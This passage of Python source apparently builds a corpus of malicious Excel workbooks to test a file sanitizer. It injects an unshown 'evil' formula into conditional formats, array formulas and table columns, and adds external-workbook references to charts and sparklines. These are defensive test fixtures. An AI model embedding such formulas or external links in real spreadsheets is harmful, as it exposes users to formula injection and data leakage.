        package("formula-in-condition", lambda: workbook({}, draw=lambda b, s: s.conditional_format("A1", {"type": "formula", "criteria": evil, "format": b.add_format()})), codes),
        package("formula-array", lambda: workbook({}, draw=lambda b, s: s.write_array_formula("A1:A2", "{" + evil + "}")), codes),
        package("formula-in-table", lambda: workbook({}, draw=lambda b, s: s.add_table("A1:B3", {"columns": [{"header": "a", "formula": evil}, {"header": "b"}]})), codes),
        package("formula-in-chart", _chart, codes),
        package("formula-in-sparkline", lambda: workbook({}, draw=lambda b, s: s.add_sparkline("A1", {"range": "[1]Blad!A1:A3"})), codes),
    ]  # fmt: skip
    return found


def _chart() -> bytes:
    def draw(book: Any, page: Any) -> None:
        chart = book.add_chart({"type": "bar"})
        chart.add_series({"values": "=[1]Blad!$A$1:$A$3"})
        page.insert_chart("C3", chart)

    return workbook({}, draw=draw)


ATTACKS: tuple[Attack, ...] = (*_xml(), *_contents(), *_fields(), *_links(), *_formulas())
